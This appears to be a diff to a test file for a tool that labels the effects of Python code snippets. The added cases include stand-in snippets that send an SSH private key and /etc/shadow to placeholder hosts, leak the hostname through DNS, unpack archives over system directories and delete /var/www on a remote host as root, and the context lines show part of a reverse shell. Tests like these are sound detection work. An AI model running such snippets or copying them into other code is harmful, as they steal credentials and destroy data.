@@ -248,6 +248,24 @@ while True:
     out = subprocess.getoutput(cmd)
     s.send(out.encode())`, []string{"connect 10.9.9.9:443", "download tcp://10.9.9.9:443 | sh", "send output -> tcp://10.9.9.9:443", "unknown", "send data -> 10.9.9.9:443"}},
 
+	{"python", `import base64, requests
+requests.post("https://x.example/c", data=base64.b64encode(open("/home/a/.ssh/id_rsa", "rb").read()))`,
+		[]string{"read /home/a/.ssh/id_rsa", "connect https://x.example/c", "send /home/a/.ssh/id_rsa -> https://x.example/c"}},
+	{"python", `import json, urllib.request
+body = json.dumps({"k": open("/etc/shadow").read()}).encode()
+urllib.request.urlopen(urllib.request.Request("http://x.example/", data=body))`,
+		[]string{"read /etc/shadow", "connect http://x.example/", "send /etc/shadow -> http://x.example/"}},
+	{"python", `import socket; d = open("/etc/hostname").read().strip(); socket.gethostbyname(f"{d}.x.evil.example")`,
+		[]string{"read /etc/hostname", "send /etc/hostname -> *.x.evil.example:53"}},
+	{"python", `import socket; socket.gethostbyname("pypi.org")`, nil},
+	{"python", `import tarfile; tarfile.open("a.tgz").extractall("/")`, []string{"read /w/a.tgz", "write -r /"}},
+	{"python", `import shutil; shutil.unpack_archive("/tmp/x.zip", "/usr/local/bin")`, []string{"read /tmp/x.zip", "write -r /usr/local/bin"}},
+	{"python", `import shutil; shutil.make_archive("/tmp/keys", "zip", "/home/a/.ssh")`, []string{"read -r /home/a/.ssh", "write /tmp/keys.*"}},
+	{"python", `import paramiko
+c = paramiko.SSHClient()
+c.connect("prod.example", username="root")
+c.exec_command("rm -rf /var/www")`, []string{"connect prod.example:22", "sh: rm -rf /var/www @prod.example"}},
+
 	// Signals and privileges.
 	{"python", `import os, signal; os.kill(1, signal.SIGKILL)`, []string{"signal KILL 1"}},
 	{"python", `import os; os.kill(-1, 9)`, []string{"signal KILL -1"}},
